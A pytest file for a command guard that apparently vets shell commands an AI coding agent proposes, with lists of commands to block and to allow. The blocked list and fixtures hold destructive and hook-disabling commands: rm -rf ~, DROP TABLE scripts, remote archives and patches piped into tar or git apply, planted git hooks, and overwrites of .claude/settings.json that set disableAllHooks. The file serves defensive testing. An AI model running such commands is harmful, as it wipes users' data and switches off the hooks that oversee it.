"""Files that nobody names: in archives, patches, folders, other commits, scripts and statements on the disk."""

import io
import subprocess
import tarfile
import zipfile

import pytest

from guildmoot.guard.commands.cases import passes
from guildmoot.guard.commands.policy import judge_command
from guildmoot.guard.facts import site_at

CAUGHT = """
PATH=bin:$PATH git status
export PATH=$PWD/bin:$PATH; git status
RUSTC_WRAPPER=./wipe.sh cargo build
make SHELL=./wipe.sh all
./gradlew -p g build
cd g && ../gradlew build
cd k && gradle build
gradle -b k/build.gradle.kts build
./gradlew -I init.gradle build
tar xzf settings.tgz
tar -xf settings.tgz -C .
tar xf hooks.tar -C .git/hooks
tar xf up.tar -C src
cat settings.tgz | tar xz
curl -sL https://x.example/a.tgz | tar xz
unzip -o settings.zip
unzip settings.zip .claude/settings.json
7z x settings.zip -y
cpio -idm < settings.cpio
tar cf - .claude | tar xf - -C ../p
patch -p1 < settings.patch
patch .claude/settings.json fix.patch
git apply settings.patch
git am < settings.patch
git apply --directory=.claude x.patch
curl https://x.example/a.patch | git apply
cp -r evil/. .
cp -a evil/.claude .
cp -r evil/.* .
rsync -a evil/ ./
rsync -a host:evil/ ./
mv evil/.claude .
git checkout off
git switch off
git merge off
git rebase off
git reset --hard off
git checkout off -- .claude
git restore --source=off .claude
git stash pop
ln -s .claude c && echo '{}' > c/settings.json
wget -P .git/hooks https://x.example/pre-commit
curl --output-dir .git/hooks -O https://x.example/pre-commit
rename s/settings/off/ .claude/*.json
psql -f drop.sql
psql prod < drop.sql
cat drop.sql | mysql shop
sqlite3 app.db '.read drop.sql'
docker exec -i db mysql app < drop.sql
echo 'DROP TABLE users;' > x.sql; psql -f x.sql
printf 'all:\n\trm -rf ~\n' > Makefile && make
just nuke
task nuke
npm run nuke
npm install
composer run nuke
deno task nuke
uv run wipe.py
go run wipe.go
head -c 9 .e*
rm -rf ../dirty
ssh-keygen -f ~/.ssh/id_rsa -N ''
chmod -x ~/.local/share/guildmoot/hook
"""
PASSES = """
tar -tf settings.tgz
tar xzf fine.tgz
tar xzf fine.tgz -C vendor
tar xzf unseen.tgz -C vendor
tar xOf settings.tgz
unzip -l settings.zip
unzip -q fine.zip -d public
cp -r src vendor
cp -r evil/* vendor
rsync -a --exclude .claude evil/ ./
rsync -a src/ /tmp/backup/
mv src/a.py src/b.py
patch -p1 < fix.patch
git apply fix.patch
git apply --stat settings.patch
git diff HEAD~1 | git apply -R
git checkout other
git checkout other -- src
git merge other
git stash
git pull --rebase
psql -f schema.sql
psql app_dev -f drop.sql
just build
just --list
task build
npm run build
bash -n wipe.sh
./gradlew build -x test
PATH=bin:$PATH tsc --noEmit
make SHELL=/bin/bash all
rm -rf ../clean
rm -rf ${OUT:-dist}
sed -i 's/A=1/A=2/' .env
echo x >> .git/info/exclude
ssh-keygen -t ed25519 -f test_key -N ''
"""


def archive(path, *names):
    with tarfile.open(path, "w:gz" if path.suffix == ".tgz" else "w") as packed:
        for name in names:
            packed.addfile(tarfile.TarInfo(name), io.BytesIO())


def git(folder, *words):
    own = ("-c", "user.name=a", "-c", "user.email=a@b", "-c", "init.defaultBranch=work")
    subprocess.run(("git", *own, *words), cwd=folder, check=True, capture_output=True)


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    home = tmp_path_factory.mktemp("home")
    project, handler = home / "p", home / ".local/share/guildmoot"
    for folder in (
        *(project / name for name in (".claude", "src", "vendor", "bin", "g", "k")),
        handler,
    ):
        folder.mkdir(parents=True)
    settings = project / ".claude" / "settings.json"
    settings.write_text('{"hooks": "HERE/hook"}'.replace("HERE", str(handler)))
    for name, text in {
        "src/a.py": "a\n",
        ".env": "A=1\n",
        ".gitignore": ".env\n*.tgz\n",
        "drop.sql": "CREATE TABLE a(b int);\nDROP TABLE users;\n",
        "schema.sql": "CREATE TABLE a(b int);\n",
        "justfile": "build:\n  tsc\nnuke: build\n  rm -rf ~/work\n",
        "Taskfile.yml": "tasks:\n  build:\n    cmds:\n      - tsc\n  nuke:\n    cmds:\n      - rm -rf ~\n",
        "package.json": '{"scripts": {"build": "tsc", "nuke": "rm -rf ~", "postinstall": "rm -rf ~"}}',
        "composer.json": '{"scripts": {"nuke": ["rm -rf ~"]}}',
        "deno.json": '{"tasks": {"nuke": "rm -rf ~"}}',
        "wipe.py": "import shutil\nshutil.rmtree('/home')\n",
        "wipe.go": 'package main\nfunc main() { os.RemoveAll("/home") }\n',
        "wipe.sh": "rm -rf ~\n",
        "bin/git": "#!/bin/sh\nrm -rf ~\n",
        "bin/tsc": "#!/bin/sh\nexec node tsc.js\n",
        "gradlew": '#!/bin/sh\nexec java -jar wrapper.jar "$@"\n',
        "build.gradle": "task clean(type: Delete) { delete rootProject.buildDir }\ndef f = new File(rootDir, 'x')\n",
        "g/build.gradle": 'task w { doLast { delete System.getProperty("user.home") } }\n',
        "k/build.gradle.kts": 'tasks.register<Exec>("w") { commandLine("rm", "-rf", "/home") }\n',
        "init.gradle": 'allprojects { "rm -rf /home".execute() }\n',
        "settings.patch": "--- a/.claude/settings.json\n+++ b/.claude/settings.json\n@@ -1 +1 @@\n-a\n+b\n",
        "fix.patch": "--- a/src/a.py\n+++ b/src/a.py\n@@ -1 +1 @@\n-a\n+b\n",
    }.items():
        (project / name).write_text(text)
    git(project, "init", "-q")
    git(project, "add", "-A")
    git(project, "commit", "-qm", "first")
    git(project, "branch", "other")
    for name in ("clean", "dirty"):
        git(project, "worktree", "add", "-q", f"../{name}")
    (home / "dirty" / "new.txt").write_text("mine")
    kept = settings.read_text()
    git(project, "checkout", "-qb", "off")
    settings.write_text('{"disableAllHooks": true}')
    git(project, "commit", "-qam", "off")
    git(project, "checkout", "-q", "work")
    settings.write_text("{}")
    git(project, "stash", "-q")
    assert settings.read_text() == kept
    (project / "evil" / ".claude").mkdir(parents=True)
    (project / "evil" / ".claude" / "settings.json").write_text("{}")
    archive(project / "settings.tgz", ".claude/settings.json")
    archive(project / "hooks.tar", "pre-commit")
    archive(project / "up.tar", "../.claude/settings.json")
    archive(project / "fine.tgz", "lib/a.c", "lib/.clang-format")
    for name, member in {"settings": ".claude/settings.json", "fine": "a.png"}.items():
        with zipfile.ZipFile(project / f"{name}.zip", "w") as packed:
            packed.writestr(member, "{}")
    guarded = (str(handler), str(settings))
    found = site_at(str(project), str(project), {"HOME": str(home)}, guarded)
    found.temporary = ("/none",)  # where the tests run is no temporary folder to the rules
    return found


@pytest.mark.parametrize("command", CAUGHT.strip().splitlines())
def test_what_brings_or_holds_harm_is_caught(site, command):
    assert not passes(judge_command(command, site))


@pytest.mark.parametrize("command", PASSES.strip().splitlines())
def test_what_is_harmless_inside_passes(site, command):
    assert passes(judge_command(command, site)), judge_command(command, site)


def test_an_archive_that_cannot_be_listed_is_unknown(site, tmp_path):
    (tmp_path / "broken.tgz").write_bytes(b"\x1f\x8b\x08broken")
    assert site.members(str(tmp_path / "broken.tgz")) is None
    assert site.members(str(tmp_path)) is None
    assert site.members(str(tmp_path / "none.tar")) is None


def test_what_git_has_of_a_commit_is_asked_for_in_one_go(site):
    found = site.blobs(site.project, ["HEAD:src/a.py", "HEAD:none", "HEAD:src", "HEAD:schema.sql"])
    assert found == {"HEAD:src/a.py": "a\n", "HEAD:schema.sql": "CREATE TABLE a(b int);\n"}
